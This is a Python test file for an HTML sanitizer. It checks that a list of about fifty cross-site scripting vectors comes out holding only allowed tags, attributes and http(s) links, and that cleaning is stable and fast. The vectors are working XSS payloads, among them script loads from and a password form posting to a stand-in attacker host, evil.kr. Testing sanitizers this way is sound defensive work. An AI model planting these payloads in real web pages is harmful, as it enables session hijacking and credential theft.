from contextlib import suppress
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from civic_sourcing.core.text import TextRefused, clean_html
from civic_sourcing.core.text.html import ALLOWED_ATTRIBUTES, ALLOWED_TAGS
from tests.core.test_text_rendering import REL, Reading

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.kr/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=x&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<p title='</p><script>alert(1)</script>'>x</p>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<template><img src=x onerror=alert(1)></template>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jAvA\tScRiPt:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.kr'>x</a>",
    "<a href='http://a.kr' onclick=alert(1) style='position:fixed' target=_blank>x</a>",
    '<a href="http://a.kr/&quot; onmouseover=&quot;alert(1)">x</a>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src='javascript:alert(1)'>",
    "<object data='javascript:alert(1)'>",
    "<embed src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<base href='javascript:/x/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.kr/x.css>",
    "<style>@import '//evil.kr/x.css';</style>",
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    "<p style=width:expression(alert(1)) id=x class=y name=z>x</p>",
    "<form action=//evil.kr><input name=password autofocus onfocus=alert(1)><button formaction=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<a\x00href='http://a.kr'\x00onclick=alert(1)>x</a>",
    "<<p>img src=x onerror=alert(1)//<</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    'http://a.kr/"onmouseover=alert(1)//',
    "http://a.kr/&quot;onmouseover=alert(1)//",
    "<a href='http://a.kr/'>http://b.kr/<img src=x onerror=alert(1)></a>",
    "\U000e0003script\U000e0004alert(1)\U000e0003/script\U000e0004",
]
PIECES = st.sampled_from(
    [
        *VECTORS,
        *(
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a href=http://a.kr/?a=1&b=2>",
            "</a>",
            "<pre>\n",
            "<ol start=3><li>",
        ),
        *(
            "<table>",
            "<td colspan=2>",
            "<svg>",
            "<style>",
            "<!--",
            "-->",
            "&nbsp;",
            "&lt;",
            *"'\"& \n한",
        ),
        *("http://a.kr/x?a&amp;b", "www.a.kr"),
    ]
)
MARKUP = st.lists(PIECES, max_size=8).map("".join) | st.text("<>/='\" &;abpsvgt!-:\n", max_size=60)


def assert_only_what_is_allowed(cleaned: str) -> None:
    reading = Reading(cleaned)
    allowed = {name for names in ALLOWED_ATTRIBUTES.values() for name in names} | {"rel"}
    assert reading.tags <= ALLOWED_TAGS
    assert {name for name, _ in reading.attributes} <= allowed
    assert all(link and link.lower().startswith(("http://", "https://")) for link in reading.links)


@pytest.mark.parametrize("vector", VECTORS, ids=ascii)
def test_nothing_that_runs_survives(vector):
    cleaned = clean_html(vector)

    assert_only_what_is_allowed(cleaned)
    assert clean_html(cleaned) == cleaned


@given(MARKUP)
def test_cleaned_markup_holds_allowed_elements_and_attributes_only(markup):
    assert_only_what_is_allowed(clean_html(markup))


@given(MARKUP)
def test_cleaning_twice_changes_nothing(markup):
    once = clean_html(markup)

    assert clean_html(once) == once


def test_structure_and_text_stay():
    markup = (
        "<h2>A</h2><ul><li><strong>b</strong> &amp; c</li></ul>"
        '<table><tbody><tr><td colspan="2">d</td></tr></tbody></table>'
    )

    assert clean_html(markup) == markup


def test_links_given_and_found_get_the_same_rel():
    assert clean_html('<p><a href="https://a.kr/" rel="me">a</a> https://b.kr/?x=1&amp;y</p>') == (
        f'<p><a href="https://a.kr/" {REL}>a</a> '
        f'<a href="https://b.kr/?x=1&amp;y" {REL}>https://b.kr/?x=1&amp;y</a></p>'
    )


def test_addresses_in_code_stay_text():
    assert clean_html("<pre>http://a.kr/</pre>") == "<pre>http://a.kr/</pre>"


@pytest.mark.parametrize(
    ("markup", "code"),
    [("x" * 100_001, "too-long"), ("<ul><li>" * 51 + "x", "too-nested")],
    ids=["long", "nested"],
)
def test_markup_beyond_the_caps_is_refused(markup, code):
    with pytest.raises(TextRefused) as caught:
        clean_html(markup)

    assert caught.value.code == code


@pytest.mark.parametrize(
    "piece", ["<div>", "<b>", "<ul><li>", "<b><p>", "<a href=http://a.kr>", "<table>"]
)
def test_evil_markup_takes_no_long_time(piece):
    start = process_time()

    with suppress(TextRefused):
        clean_html(piece * (100_000 // len(piece)))

    assert process_time() - start < 5
